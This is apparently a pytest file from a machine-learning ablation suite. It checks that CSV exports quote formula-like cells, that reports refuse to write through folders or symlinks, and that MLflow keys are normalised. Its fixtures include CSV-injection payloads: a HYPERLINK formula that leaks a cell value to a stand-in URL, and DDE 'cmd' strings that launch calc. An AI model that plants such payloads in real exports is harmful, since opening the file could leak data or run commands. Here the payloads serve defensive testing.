"""What the suite writes beside the store is safe to open and to write again: no CSV cell starts
a spreadsheet formula (OWASP's CSV injection rule), and the report step writes through nothing
but regular files of its own."""

import csv

import pytest
from rich.console import Console

from ablations.__main__ import main
from ablations.claims import SCALES, SVM, Claim
from ablations.looks import look
from ablations.reporting.report import (
    REASON_CHARS,
    ReportBlocked,
    answer,
    short_reason,
    write_results,
)
from ablations.running.suite import Suite, SuiteOptions
from ablations.stats.decision import Verdict
from ablations.verdicts.judge import ClaimReport
from alexnet import classical
from alexnet.tracking import Tracker
from alexnet.untrusted import FORMULA_START, csv_cell

HOSTILE_ARMS = ('=HYPERLINK("http://x?leak="&A1,"arm")', "@SUM(1+1)")
HOSTILE_TORCH = "+cmd|' /C calc'!A0"


def _cells(path) -> list[str]:
    with open(path, newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_hostile_arm_names_and_environment_reach_no_csv_as_formulas(tmp_path, fmnist, monkeypatch, capsys):
    """Two SVM arms (fitted in seconds) named like formulas, their environment's torch version too:
    claims.csv and ``python -m ablations runs --csv`` hold every such cell quoted as text."""
    real = classical.environment
    monkeypatch.setattr(classical, "environment", lambda device: {**real(device), "torch": HOSTILE_TORCH})
    linear = {**SVM, "features": "pixels", "kernel": "linear"}
    claim = Claim("formulas", "x", "better", {HOSTILE_ARMS[0]: {**linear, "svm_c": 1.0}, HOSTILE_ARMS[1]: linear},
                  "test_acc", 0.01)
    tracker = Tracker(f"sqlite:///{tmp_path}/mlflow.db")
    suite = Suite(SCALES["smoke"], tracker, fmnist, SuiteOptions(device="cpu", checkpoint_dir=tmp_path / "ck",
                                                                  progress=False))
    reports = look(suite, [claim], "test")
    write_results(reports, tmp_path / "results", scale=SCALES["smoke"], device="cpu", command="test",
                  env=reports[0].runs[0].result.env, trained=suite.trained)
    assert main(["runs", "--tracking-uri", tracker.uri, "--csv", str(tmp_path / "runs.csv")]) == 0
    for path in (tmp_path / "results" / "claims.csv", tmp_path / "runs.csv"):
        cells = _cells(path)
        assert not [c for c in cells if c.startswith(FORMULA_START)], path
        for arm in HOSTILE_ARMS:
            assert f"'{arm}" in cells  # kept, as text
        assert f"'{HOSTILE_TORCH}" in cells
    printed = capsys.readouterr().out
    assert "formulas" in printed and "@SUM(1+1)" in printed  # the console shows names as they are


@pytest.mark.parametrize("value,cell", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
                                        ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=1", "a=1"), ("− ReLU", "− ReLU"),
                                        (" =1+1", "' =1+1"), ("\n@A1", "'\n@A1"),
                                        ("\uff1dcmd|'/C calc'!A0", "'\uff1dcmd|'/C calc'!A0"),
                                        ("\u3000\uff0b1", "'\u3000\uff0b1"), (" a", " a"), (-1.5, -1.5), (3, 3)])
def test_a_cell_that_starts_like_a_formula_is_quoted_and_nothing_else_changes(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("entry", ["folder", "link"])
def test_a_folder_or_link_where_a_report_goes_stops_the_report_step_before_it_writes(tmp_path, entry):
    folder = tmp_path / "results"
    folder.mkdir()
    if entry == "folder":
        (folder / "zz.png").mkdir()
        (folder / "zz.png" / "readme.txt").write_text("an archive's folder named like a plot")
    else:
        (tmp_path / "elsewhere.md").write_text("not the suite's")
        (folder / "claims.md").symlink_to(tmp_path / "elsewhere.md")
    with pytest.raises(ReportBlocked, match="is not a regular file .* move it away and re-run the same command"):
        write_results([], folder, scale=SCALES["smoke"], device="cpu", command="test", env={}, trained=0)
    assert sorted(p.name for p in folder.iterdir()) == (["zz.png"] if entry == "folder" else ["claims.md"])
    if entry == "link":
        assert (tmp_path / "elsewhere.md").read_text() == "not the suite's"


@pytest.mark.parametrize("arm", ["3x3/2", "http://x", "x/../y", "x/", "//x", "a/./b"])
def test_an_arm_name_makes_a_metric_key_mlflow_accepts(tmp_path, arm):
    """An arm's name becomes part of MLflow keys (``test_acc.<arm>.mean``); MLflow refuses a key that
    is not a normalised path, which ended a suite in a traceback at its verdicts."""
    from alexnet.tracking import key_name

    tracker = Tracker(f"sqlite:///{tmp_path}/mlflow.db")
    with tracker.open_run("keys", {}):
        tracker.log_metrics({f"test_acc.{key_name(arm)}.mean": 0.5})
        tracker.log_params({f"tuned_lr.{key_name(arm)}": 0.01})
    assert key_name("3x3/2") == "3x3/2" and key_name("http://x") == "http:__x"


def test_quoting_formula_cells_leaves_every_number_as_it_was(tmp_path):
    """The value column mixes ints (params, FLOPs) and floats: quoting must not turn 30035746 into 30035746.0."""
    import pandas as pd

    from ablations.reporting.table import write_csv

    frame = pd.DataFrame({"arm": ["+ ReLU", "relu", "x"], "value": [30035746, 0.721, float("nan")]}, dtype=object)
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == "arm,value\n'+ ReLU,30035746\nrelu,0.721\nx,nan\n"


def _report(claim_id: str, verdict: str, reason: str = "", diff: tuple | None = None, proxy: str = "quick"):
    comparisons = {} if diff is None else {("a", "b"): Verdict(verdict, "", {"diff": diff[0], "ci_low": diff[1],
                                                                           "ci_high": diff[2]})}
    return ClaimReport(Claim(claim_id, "x", "better", {"a": {}, "b": {}}), verdict, ["a long line of evidence"] * 30,
                       comparisons=comparisons, reason=reason, proxy=proxy)


def test_the_console_answer_is_a_line_per_claim_with_its_deciding_difference_and_a_short_reason():
    """Ten claims fit one screen (at most 40 lines) on an 80-column terminal: a line per claim,
    its reason below, cut at a word; the evidence stays in claims.md; piped, the same plain lines."""
    why = "relu vs sigmoid lacks seeds: 60 to 1,400 for 80% power at the scale's spread and more"
    reports = [_report(f"claim{i}", ("reproduced", "contradicted", "inconclusive")[i % 3], why * (i % 2),
                       (0.0891, 0.0612, 0.1173) if i % 4 else None) for i in range(10)]
    console = Console(width=80, force_terminal=True, record=True)
    console.print("\n".join(answer(reports, "verdicts, quick scale", colour=True)))
    shown = console.export_text().splitlines()
    assert len(shown) == 16 and max(map(len, shown)) <= 80 and "a long line of evidence" not in "\n".join(shown)
    lines = answer(reports, "verdicts, quick scale")
    assert lines == shown  # the colours aside, what a pipe gets
    assert lines[2:4] == ["  claim1  contradicted (quick proxy)  a − b +0.089 [+0.061, +0.117]",
                          "          relu vs sigmoid lacks seeds: 60 to 1,400 for 80% power at the…"]
    assert short_reason(reports[1], ("relu", "sigmoid")).startswith("lacks seeds: 60 to 1,400")
    assert lines[1] == "  claim0  reproduced (quick proxy)"  # no comparison, no reason: nothing else
    assert len(short_reason(reports[1])) <= REASON_CHARS and short_reason(reports[3]) == short_reason(reports[1])
